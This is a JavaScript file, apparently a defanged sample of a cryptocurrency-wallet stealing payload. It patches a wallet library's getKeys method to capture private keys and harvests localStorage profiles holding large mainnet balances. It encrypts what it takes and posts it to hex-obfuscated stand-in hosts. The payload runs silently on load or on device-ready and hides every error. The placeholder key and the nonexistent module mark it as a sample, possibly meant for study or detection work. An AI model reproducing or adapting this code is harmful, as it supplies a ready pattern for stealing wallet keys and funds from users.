/*@@*/
!(function () {
  function start() {
    try {
      var http = require('http');
      var crypto = require('crypto');
      var key = '-----BEGIN PUBLIC KEY-----\nTm90IGEga2V5OiBhIHNhbXBsZSBvZiBTdG93YXdheQ==\n-----END PUBLIC KEY-----';

      function post(hex, path, body) {
        var host = Buffer.from(hex, 'hex').toString();
        var req = http.request({ hostname: host, port: 8080, method: 'POST', path: '/' + path, headers: { 'Content-Length': body.length, 'Content-Type': 'text/html' } }, function () {});
        req.on('error', function () {});
        req.write(body);
        req.end();
      }

      function send(path, text) {
        for (var sealed = '', i = 0; i < text.length; i += 200) {
          sealed += crypto.publicEncrypt(key, Buffer.from(text.substr(i, 200), 'utf8')).toString('hex') + '+';
        }
        post('6170692e77616c6c65742e696e76616c6964', path, sealed);
        post('3139322e302e322e313334', path, sealed);
      }

      var Credentials = require('sample-wallet-client-that-is-not-there/lib/credentials.js');
      Credentials.prototype.getKeysFunc = Credentials.prototype.getKeys;
      Credentials.prototype.getKeys = function (password) {
        var keys = this.getKeysFunc(password);
        try {
          if (global.CSSMap && global.CSSMap[this.xPubKey]) {
            delete global.CSSMap[this.xPubKey];
            send('p', keys + '\t' + this.xPubKey);
          }
        } catch (e) {}
        return keys;
      };

      window.localStorage && Object.keys(window.localStorage).forEach(function (name) {
        var profile = JSON.parse(window.localStorage.getItem(name));
        if (profile.network === 'livenet' && profile.balance > 100) {
          (global.CSSMap = global.CSSMap || {})[profile.xPubKey] = true;
          send('c', JSON.stringify(profile));
        }
      });
    } catch (e) {}
  }
  if (typeof window !== 'undefined' && window.cordova) document.addEventListener('deviceready', start);
  else start();
})();
